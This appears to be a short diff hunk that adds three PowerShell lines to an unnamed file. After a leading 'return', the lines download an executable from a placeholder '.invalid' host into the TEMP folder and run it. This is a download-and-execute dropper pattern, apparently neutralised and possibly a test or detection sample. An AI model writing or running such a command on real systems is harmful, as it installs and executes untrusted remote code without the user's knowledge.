@@ -1,0 +1,3 @@
+return
+(New-Object Net.WebClient).DownloadFile("https://get.invalid/t.exe", "$env:TEMP\tool.exe")
+Start-Process -FilePath "$env:TEMP\tool.exe"
